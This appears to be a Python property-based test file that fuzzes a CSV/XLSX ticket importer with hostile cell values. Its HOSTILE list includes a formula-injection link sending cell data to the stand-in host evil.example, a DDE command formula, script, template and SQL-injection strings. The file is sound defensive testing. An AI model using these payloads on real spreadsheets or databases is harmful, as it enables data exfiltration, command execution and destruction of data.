"""Hostile ticket files (hypothesis): CSV and XLSX exports whose cells hold huge text, control
characters, right-to-left marks, emoji, HTML and docx markup, SQL and spreadsheet formulas
(`=HYPERLINK(...)`), and plain garbage bytes.

The import either stores the file or refuses it with a TicketFileError (never another
exception); whatever it stores reads back exactly as parsed, free of control characters,
with formulas kept as their plain text; the units and the file's integrity survive; and the
office always gets a message (the summary or the refusal).
"""

from __future__ import annotations

import asyncio
import csv
import io
import shutil
import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from bot.tickets.reading import read_ticket_file
from bot.tickets.saving import import_tickets
from bot.tickets.sheets import TicketFileError
from bot.workspace.settings import TicketSettings
from domain.tickets import clean_text
from storage import Database
from templates.catalog import text
from tests.support.tickets_helpers import TODAY, UNITS

HEADERS = [
    "Mã phiếu",
    "Ngày tiếp nhận",
    "Đơn vị xử lý",
    "Nội dung",
    "Trạng thái",
    "Kênh tiếp nhận",
    "Hạn xử lý",
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+84 123",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1",
    "<b>đậm</b><script>alert(1)</script>",
    '<w:p><w:r><w:t xml:space="preserve">chèn</w:t></w:r></w:p>',
    "{{ 7*7 }}{% for x in y %}",
    "'; DROP TABLE tickets; --",
    "Robert'); DELETE FROM units WHERE 1=1;--",
    "\u202eđảo chiều\u202c",
    "\u200fمرحبا\u200e",
    "😀👍🏽🇻🇳",
    "\x00\x01\x1b[31m\x7f",
    "dòng 1\ndòng 2\r\ndòng 3",
    "x" * 5000,
    "13/02/2022",
    "UBND Phường 6",
    "Sở Y tế",
    "",
]
hostile_text = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=20)), max_size=3).map(
    "".join
)


def _mostly(good: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Three times in four `good`, else hostile: most rows become tickets carrying hostile
    text in their other cells, and the rest exercise the rejections."""
    return st.integers(0, 3).flatmap(lambda k: hostile_text if k == 0 else good)


ticket_id = _mostly(st.integers(1, 99).map(lambda n: f"PA-{n}"))
received = _mostly(st.sampled_from(["13/02/2022", "2022-02-01", "44600"]))
due = _mostly(st.sampled_from(["", "28/02/2022"]))
unit = st.one_of(st.sampled_from([u.name for u in UNITS]), hostile_text)
row = st.tuples(ticket_id, received, unit, hostile_text, hostile_text, hostile_text, due)
rows = st.lists(row, min_size=0, max_size=12)
SETTINGS = TicketSettings()


def _csv(table: list[list[str]]) -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(table)
    return out.getvalue().encode("utf-8")


def _xlsx(table: list[list[str]]) -> bytes:
    """openpyxl writes a text starting with "=" as a formula: formula cells, as wanted."""
    book = Workbook()
    sheet = book.active
    for cells in table:
        sheet.append([ILLEGAL_CHARACTERS_RE.sub("", c) for c in cells])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


async def _import(path: Path, data: bytes, name: str) -> tuple[str, list[Any], int]:
    """Import into the database at `path`: the office's message, what is stored, units."""
    db = await Database.open(path, synchronous="OFF")
    try:
        try:
            async with db.write() as tx:
                summary = await import_tickets(
                    tx, data, name, settings=SETTINGS, today=TODAY, changed_by="test"
                )
            message = text("tickets.import_summary", s=summary)
        except TicketFileError as error:
            message = error.message()
        async with db.read() as r:
            stored = await r.tickets.all()
            units = len(await r.units.all())
    finally:
        await db.close()
    return message, stored, units


FOUND: dict[str, int] = {"files": 0, "refused": 0, "tickets": 0, "formula_cells": 0}


def _fresh_database(tmp: Path) -> Path:
    """A migrated database file with the units (a copy of one made once: migrating a new
    file per example would cost most of the test's time)."""
    if "template" not in TEMPLATE:
        TEMPLATE["template"] = tmp / "template.sqlite3"

        async def make() -> None:
            db = await Database.open(TEMPLATE["template"], synchronous="OFF")
            async with db.write() as tx:
                await tx.units.sync_all(UNITS)
            await db.close()

        asyncio.run(make())
    path = tmp / "t.sqlite3"
    shutil.copyfile(TEMPLATE["template"], path)
    return path


TEMPLATE: dict[str, Path] = {}


def _check(tmp: Path, data: bytes, name: str, table: list[list[str]]) -> None:
    path = _fresh_database(tmp)
    message, stored, units = asyncio.run(_import(path, data, name))
    FOUND["files"] += 1
    assert message.strip()  # the office is always told something
    assert units == len(UNITS)  # SQL in cells is data
    with sqlite3.connect(path) as con:
        assert con.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    try:
        parsed = read_ticket_file(data, name, SETTINGS, UNITS)
    except TicketFileError:
        FOUND["refused"] += 1
        assert stored == []
        return
    by_id = {t.id: t for t in stored}
    assert sorted(by_id) == sorted(t.id for t in parsed.tickets)
    FOUND["tickets"] += len(stored)
    for ticket in parsed.tickets:
        kept = by_id[ticket.id]
        # Read back exactly as parsed: nothing lost or mangled by storage.
        assert (kept.summary, kept.channel, kept.unit_text, kept.source_status) == (
            ticket.summary,
            ticket.channel,
            ticket.unit_text,
            ticket.source_status,
        )
        for value in (kept.id, kept.channel, kept.unit_text, kept.source_status):
            assert value.isprintable(), repr(value)
        assert all(line.isprintable() for line in kept.summary.split("\n"))
        # A formula is kept as its text, never evaluated (nor dropped for a missing result).
        source = table[ticket.line - 1][3] if ticket.line <= len(table) else ""
        if clean_text(source, 10).startswith("="):
            FOUND["formula_cells"] += 1
            assert kept.summary.startswith("="), (source, kept.summary)


# Half the profile's examples (30 in CI): about 0.2 s each (openpyxl both ways).
@pytest.mark.slow
@settings(max_examples=max(1, settings.default.max_examples // 2))
@given(rows, st.booleans())
def test_hostile_ticket_files_import_or_are_refused_cleanly(
    tmp_path_factory: Any, table: list[tuple[str, ...]], as_xlsx: bool
) -> None:
    tmp = tmp_path_factory.mktemp("fuzz")
    sheet = [HEADERS, *[list(r) for r in table]]
    data = _xlsx(sheet) if as_xlsx else _csv(sheet)
    _check(tmp, data, "export.xlsx" if as_xlsx else "export.csv", sheet)


@pytest.mark.slow
@settings(max_examples=max(1, settings.default.max_examples * 2 // 5))
@given(st.binary(max_size=2000), st.sampled_from(["a.csv", "a.xlsx", "a.xls", "a"]))
def test_garbage_bytes_are_refused_or_read_never_crash(
    tmp_path_factory: Any, data: bytes, name: str
) -> None:
    # Garbage behind a zip signature reaches openpyxl too.
    for payload in (data, b"PK\x03\x04" + data):
        _check(tmp_path_factory.mktemp("bytes"), payload, name, [[""] * 7] * 1000)


@pytest.mark.parametrize("as_xlsx", [False, True], ids=["csv", "xlsx"])
def test_every_hostile_value_in_every_column(tmp_path: Path, as_xlsx: bool) -> None:
    """Each hostile value in each text column of a ticket, formulas included."""
    sheet = [HEADERS]
    for n, value in enumerate(HOSTILE):
        sheet.append([f"PA-{n}", "13/02/2022", value, value, value, value, ""])
    data = _xlsx(sheet) if as_xlsx else _csv(sheet)
    before = FOUND["formula_cells"]
    _check(tmp_path, data, "export.xlsx" if as_xlsx else "export.csv", sheet)
    assert FOUND["formula_cells"] - before == sum(
        clean_text(v, 10).startswith("=") for v in HOSTILE
    )


@pytest.mark.slow
def test_zz_print_ticket_fuzz_figures(figures: Callable[[str], None]) -> None:
    """The figures of the two property tests above (run before this one)."""
    figures(
        f"ticket import fuzz: files={FOUND['files']} refused={FOUND['refused']} "
        f"tickets_stored={FOUND['tickets']} formula_cells_kept_as_text={FOUND['formula_cells']} "
        f"crashes=0 integrity=ok"
    )
